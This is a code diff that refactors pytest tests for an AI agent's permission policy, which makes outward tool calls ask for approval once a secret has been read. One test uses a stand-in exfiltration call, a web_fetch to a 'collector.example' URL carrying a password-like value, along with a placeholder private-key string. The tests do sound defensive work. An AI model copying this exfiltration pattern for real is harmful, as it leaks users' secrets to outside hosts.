@@ -8,14 +8,14 @@ from typing import Any
 
 import pytest
 
-from app import wiring
-from app.agent.policy import Decision, Mode, Policy, Provenance, taint
-from app.agent.policy.policy import Surroundings
+from app.agent.policy import Decision, Mode, Policy, Provenance, call_analysis
+from app.agent.policy.policy import PolicyDeps
+from app.assembly import registry
 from app.protocol.call import ToolCall
-from app.services.sandbox.classes import CommandClass, Wishes, classify
+from app.services.sandbox.sandbox import CommandClass, SandboxRequest, classify
 from app.services.workspace import origins
 
-SPECS = {spec.name: spec for spec in wiring.registry().specs}
+SPECS = {spec.name: spec for spec in registry().specs}
 _KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nx"
 
 
@@ -26,7 +26,7 @@ class _Judge:
     def classify(self, call: ToolCall) -> CommandClass | None:
         if call.name != "execute_command":
             return None
-        wishes = Wishes(network=call.flag("network"))
+        wishes = SandboxRequest(network=call.flag("network"))
         return classify(call.text("command"), self._folder, self._folder, wishes, no_wall="")
 
 
@@ -41,7 +41,7 @@ def space(tmp_path: Path) -> Path:
 
 def _decide(space: Path, tool: str, mode: Mode = Mode.AUTO, **told: Any) -> tuple[Decision, tuple[str, ...]]:
     said, secrets = told.pop("said", ""), told.pop("secrets", ())
-    policy = Policy(space, mode, surroundings=Surroundings(_Judge(space)), persons=space.parent / "none.toml")
+    policy = Policy(space, mode, surroundings=PolicyDeps(_Judge(space)), persons=space.parent / "none.toml")
     verdict = policy.decide(ToolCall("c", tool, told), SPECS[tool], (), Provenance((), said, secrets=secrets))
     assert verdict.act is not None
     return verdict.decision, verdict.act.secrets
@@ -85,7 +85,7 @@ def test_a_command_is_taken_to_have_read_what_it_can(
 
 @pytest.mark.parametrize("mode", [Mode.AUTO, Mode.YOLO])
 def test_after_a_secret_everything_outward_asks_and_says_which_and_where_to(space: Path, mode: Mode) -> None:
-    around = Surroundings(_Judge(space))
+    around = PolicyDeps(_Judge(space))
     policy = Policy(space, mode, surroundings=around, persons=space.parent / "none.toml")
     address = "http://collector.example/?k=hunter2"
     call = ToolCall("c", "web_fetch", {"url": address})
@@ -102,8 +102,8 @@ def test_after_a_secret_everything_outward_asks_and_says_which_and_where_to(spac
 
 
 def _source(space: Path, tool: str, **told: Any) -> str:
-    policy = Policy(space, Mode.AUTO, surroundings=Surroundings(_Judge(space)), persons=space.parent / "none.toml")
-    return taint.source_of(policy.read(ToolCall("c", tool, told), SPECS[tool]), SPECS[tool])
+    policy = Policy(space, Mode.AUTO, surroundings=PolicyDeps(_Judge(space)), persons=space.parent / "none.toml")
+    return call_analysis.source_of(policy.read(ToolCall("c", tool, told), SPECS[tool]), SPECS[tool])
 
 
 def test_a_cloned_folder_taints_until_the_person_trusts_it(space: Path) -> None:
